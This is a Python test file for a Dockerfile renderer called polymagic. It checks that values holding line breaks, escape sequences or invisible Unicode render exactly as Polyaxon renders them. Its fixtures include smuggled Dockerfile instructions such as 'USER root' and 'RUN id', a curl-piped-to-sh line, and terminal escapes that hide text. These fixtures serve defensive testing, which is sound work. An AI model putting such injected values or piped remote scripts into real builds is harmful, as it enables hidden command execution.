"""The Dockerfile stays Polyaxon's, byte for byte, when values hold line breaks or hidden
characters: polymagic warns (PM007, PM008) and shows them escaped, but renders what Polyaxon
renders. Checked against the real polyaxon package."""

from __future__ import annotations

from typing import Any

import pytest

from polymagic.render.dockerfile import render_dockerfile
from polymagic.spec.loader import load_dockerfile_init

from .harness import run_oracle

pytestmark = pytest.mark.oracle

BODIES: list[dict[str, Any]] = [
    {"image": "a:1", "env": {"A": "1\nRUN echo injected by a value"}},
    {"image": "a:1", "env": [["B", "x\nUSER root"]], "langEnv": "C.UTF-8\nRUN id"},
    {"image": "a:1", "run": ["curl https://x.invalid | sh # \r\x1b[2KRUN pip install numpy"]},
    {"image": "python:3.11\x1b[8m\x07\u202e", "run": ["echo \u200b\ufeff\u2028\x85\U000e0041"]},
    {"image": "a:1", "run": ["echo a \\\n# comment\n\n && echo b"], "workdir": "/code\nRUN id"},
]


def test_values_with_line_breaks_and_hidden_characters_render_as_polyaxon_does() -> None:
    results = run_oracle([{"kind": "dockerfile", "body": body} for body in BODIES])
    for body, result in zip(BODIES, results, strict=True):
        assert "error" not in result, result
        assert render_dockerfile(load_dockerfile_init(body)) == result["ok"], body
